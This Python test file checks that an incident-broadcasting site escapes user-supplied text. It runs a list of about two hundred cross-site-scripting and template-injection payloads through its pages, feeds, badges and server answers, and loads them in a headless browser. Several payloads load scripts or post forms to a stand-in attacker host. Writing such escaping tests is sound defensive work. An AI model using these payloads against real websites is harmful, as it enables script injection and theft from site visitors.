"""What an operator types is shown, never run: two hundred hostile texts on pages in a browser and in feeds."""

from __future__ import annotations

import asyncio
import itertools
import json
from collections.abc import Iterator
from dataclasses import replace
from pathlib import Path
from urllib.parse import urlencode

import pytest
from lxml import etree, html
from playwright.sync_api import Browser, Dialog, Page, Route, sync_playwright

from broadcaster.bundle import Bundle
from broadcaster.channel import ChannelContext, Place
from broadcaster.domain.incident import Kind
from broadcaster.domain.markup import legible
from broadcaster.public.questions import Questions
from broadcaster.public.resource import policy
from broadcaster.public.site import Site
from broadcaster.testing.boards import board, context, incident, minutes, update
from channels.feed.site import feeds
from channels.page.settings import PageSettings
from channels.page.site import pages

# OWASP's cheat sheet on cross-site scripting gave the kinds; `hit()` would be seen wherever it ran.
CORES = (
    "<script>hit()</script>",
    "<ScRiPt>hit()</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    "<img src=x onerror=hit()>",
    "<img/src=//evil.example/p onerror=hit()//",
    "<svg/onload=hit()>",
    "<svg><script>hit()</script></svg>",
    "<body onload=hit()>",
    "<iframe src=javascript:hit()></iframe>",
    "<iframe srcdoc='<script>parent.hit()</script>'></iframe>",
    "<object data=//evil.example/x></object>",
    "<embed src=//evil.example/x>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<style>@import '//evil.example/x.css'</style>",
    "<style>*{display:none}</style>",
    "<form action=//evil.example><input name=a><button>x</button></form>",
    "<a href=javascript:hit()>x</a>",
    "<a href='data:text/html,<script>hit()</script>'>x</a>",
    "<math><mi xlink:href='javascript:hit()'>x</mi></math>",
    "<details open ontoggle=hit()>",
    "<video src=//evil.example/v autoplay onerror=hit()>",
    "<input autofocus onfocus=hit()>",
    "<marquee onstart=hit()>",
    "</title><script>hit()</script>",
    "</p></div></li></ol></main><script>hit()</script>",
    "</textarea></style></script><script>hit()</script>",
    "<!--><script>hit()</script>-->",
    "<![CDATA[<script>hit()</script>]]>",
    "]]><script>hit()</script>",
    "<noscript><p title='</noscript><img src=x onerror=hit()>'>",
    "<plaintext>",
    "<xmp><script>hit()</script></xmp>",
    "' onmouseover='hit()' style='position:fixed;inset:0",
    '" onmouseover="hit()" style="position:fixed;inset:0',
    "javascript:hit()",
    "[x](javascript:hit())",
    'https://evil.example/"onclick="hit()',
    "&lt;script&gt;hit()&lt;/script&gt;",
    "&#60;script&#62;hit()&#60;/script&#62;",
    "{{ self.__init__.__globals__ }}",
    "{% for a in cycler.__class__.mro() %}{{ a }}{% endfor %}",
    "${hit()} #{hit()} {0.__class__} %(a)s",
    "\u202e<script>hit()</script>",
    "\u2028<script>hit()</script>\u2029",
    "\ufeff<script>hit()</script>",
    "\uff1cscript\uff1ehit()\uff1c/script\uff1e",
    "<scr\x00ipt>hit()</scr\x00ipt>",
    "<img src=x onerror=\thit()\x0b>",
    "\ud800<script>hit()</script>",
)
FRAMES = ("{}", "Ström {} borta", "\n\n{}\n- x", "\"'`{}")
PAYLOADS = tuple(frame.replace("{}", core, 1) for core, frame in itertools.product(CORES, FRAMES))
ACTIVE = {"script", "iframe", "img", "object", "embed", "base", "video", "form", "input", "math"}
ORIGIN = "https://drift.ekbyn.example"
NO_HEADERS = dict[str, str]().get


def boards_of_payloads() -> Iterator[dict[str, bytes]]:
    """Files of page and feed with every payload as text, cause, instruction, headline, and as the configuration's names."""
    for group in batches():
        surroundings = configured(group)
        told = [
            update(number, Kind.UPDATE, minutes(number), text, cause=text, instruction=text)
            for number, text in enumerate(group, start=1)
        ]
        hostile = incident(
            "A7", reversed(told), headline=group[0], cause=group[-1], instruction=group[-1]
        )
        shown = board(hostile)
        made = [*pages(shown, surroundings, PageSettings(kind="page")), *feeds(shown, surroundings)]
        yield {file.path: file.body for file in made}


def configured(names: tuple[str, ...]) -> ChannelContext:
    """A configuration whose organisation and areas are called so, and its telephone number."""
    usual = context()
    areas = [replace(area, name=name) for area, name in zip(usual.areas, names, strict=False)]
    organisation = replace(usual.organisation, name=names[-1], phone=names[-2])
    return replace(usual, areas=tuple(areas), organisation=organisation)


def batches() -> Iterator[tuple[str, ...]]:
    """Twelve texts at a time: a board for each."""
    for start in range(0, len(PAYLOADS), 12):
        yield PAYLOADS[start : start + 12]


def active_in(document: bytes | str) -> list[str]:
    """Elements and attributes that a browser would act on."""
    found = []
    for element in html.document_fromstring(document).iter(etree.Element):
        if element.tag in ACTIVE:
            found.append(str(element.tag))
        for name in map(str, element.attrib):
            leads = name in {"href", "src", "action", "{http://www.w3.org/1999/xlink}href"}
            value = str(element.get(name, ""))
            if name.startswith("on") or (leads and value.strip().lower().startswith("javascript:")):
                found.append(f"{element.tag} {name}={value}")
    return found


def test_there_are_two_hundred_hostile_texts_and_the_check_sees_them_raw() -> None:
    assert len(set(PAYLOADS)) >= 200
    raw = ("<script>hit()</script>", "<img src=x onerror=hit()>", "<a href=javascript:hit()>x</a>")
    assert all(active_in(f"<div>{core}</div>") for core in raw)


def test_the_names_of_areas_and_organisation_are_on_the_pages_and_in_the_feeds() -> None:
    """So that the tests below look at them too."""
    for files, group in zip(boards_of_payloads(), batches(), strict=True):
        page = "".join(map(str, html.document_fromstring(files["index.html"]).itertext()))
        plain = [name for name in (group[0], group[-1]) if name.isprintable()]
        assert all(" ".join(name.split()) in " ".join(page.split()) for name in plain)


def test_no_hostile_text_becomes_markup_on_a_page() -> None:
    for files in boards_of_payloads():
        for path, body in files.items():
            if path.endswith(".html"):
                assert active_in(body) == [], path


def test_no_hostile_text_gets_into_a_badge_or_opens_a_page_to_frames() -> None:
    drawn = {"svg", "title", "style", "rect", "circle", "path", "text"}
    for files in boards_of_payloads():
        for path, body in files.items():
            if path.endswith(".svg"):
                elements = list(etree.fromstring(body).iter(etree.Element))
                assert {etree.QName(each).localname for each in elements} <= drawn, path
                assert not any(
                    name.startswith("on") for each in elements for name in map(str, each.attrib)
                )
            elif path.endswith(".html") and not path.endswith("embed/index.html"):
                assert "frame-ancestors 'none'" in policy(body), path


def test_no_hostile_text_breaks_a_feed_or_becomes_markup_in_one() -> None:
    for files in boards_of_payloads():
        for path, body in files.items():
            if path.endswith((".rss", ".atom")):
                for element in etree.fromstring(body).iter(
                    "{*}content", "{*}summary", "description"
                ):
                    said = element.text or ""
                    assert not said or active_in(f"<div>{said}</div>") == [], path
            elif path.endswith(".json"):
                for item in json.loads(body)["items"]:
                    assert active_in(f"<div>{item.get('content_html', '')}</div>") == [], path


def answers(root: Path) -> Iterator[tuple[bytes, tuple[str, ...]]]:
    """What the public server answers when hostile texts are asked, of places and areas that are called so."""
    for number, group in enumerate(batches()):
        usual = configured(group)
        key = usual.areas[0].key
        named = [Place(legible(text)[:80], "", key) for text in group if text.strip()]
        guessed = [Place(f"By {n} {place.name}", "", key) for n, place in enumerate(named)]
        surroundings = replace(usual, places=(*named, *guessed), answers=True)
        shown = board(incident("A7", [update(1, Kind.UPDATE, minutes(1), group[0])]))
        folder = root / str(number)
        Bundle(folder, "page").publish(
            "1.1", list(pages(shown, surroundings, PageSettings(kind="page")))
        )
        Bundle(folder, "feed").publish("1.1", list(feeds(shown, surroundings)))
        site = Site(folder)
        site.look()
        questions = Questions(lambda table=site.table: table, https=False)  # type: ignore[misc]  # the loop's own
        for text in (*group, "by"):
            body = urlencode({"place": text.encode("utf-8", "replace")}).encode()
            yield asyncio.run(questions.place("/places/", body)).body or b"", ("form", "input")
            asked = asyncio.run(
                questions.channel(
                    "/my/",
                    urlencode({"area": key, "form": text.encode("utf-8", "replace")}),
                    NO_HEADERS,
                    0.0,
                )
            )
            assert asked is not None
            yield asked.body or b"", ()
        other = usual.areas[1].key
        choice = urlencode([("area", key), ("area", other), ("form", "feed.atom")])
        told = asyncio.run(questions.channel("/my/", choice, NO_HEADERS, 0.0))
        assert told is not None
        yield told.body or b"", ()
        for name in ("feed.atom", "feed.rss", "feed.json"):
            path = f"/my/{'+'.join(sorted((key, other)))}/{name}"
            feed = asyncio.run(questions.channel(path, "", NO_HEADERS, 0.0))
            assert feed is not None
            assert feed.status == 200
            _ = (
                json.loads(feed.body or b"")
                if name == "feed.json"
                else etree.fromstring(feed.body or b"")
            )


def test_no_hostile_question_becomes_markup_in_its_answer(tmp_path: Path) -> None:
    """Asked for a place, and as the names of places, areas and organisation that the answer repeats."""
    seen = 0
    for body, ours in answers(tmp_path):
        seen += 1
        assert active_in(body) in ([], list(ours)), body[-3000:]
    assert seen > 2 * len(PAYLOADS)


@pytest.fixture(scope="module")
def page(chromium_path: Path) -> Iterator[Page]:
    with sync_playwright() as playwright:
        browser: Browser = playwright.chromium.launch(
            executable_path=chromium_path, args=["--no-sandbox", "--disable-gpu"]
        )
        yield browser.new_page()
        browser.close()


@pytest.mark.slow
@pytest.mark.real("chromium")
def test_a_browser_runs_nothing_of_them_and_asks_for_nothing(page: Page) -> None:
    """Without the policy that the public server adds: escaping alone must hold."""
    wrong: list[str] = []
    page.on("dialog", lambda dialog: wrong.append(_closed(dialog)))
    page.expose_function("hit", lambda: wrong.append("a script ran"))
    for files in boards_of_payloads():
        for path in ("index.html", "incidents/a7/index.html"):
            _open(page, path, files[path], wrong)
    assert wrong == []


def _closed(dialog: Dialog) -> str:
    dialog.dismiss()
    return f"a dialog opened: {dialog.message}"


def _open(page: Page, path: str, body: bytes, wrong: list[str]) -> None:
    def serve(route: Route) -> None:
        if route.request.url == f"{ORIGIN}/{path}":
            route.fulfill(status=200, content_type="text/html; charset=utf-8", body=body)
        else:
            wrong.append(f"asked for {route.request.url}")
            route.abort()

    page.route("**/*", serve)
    page.goto(f"{ORIGIN}/{path}")
    page.unroute("**/*", serve)
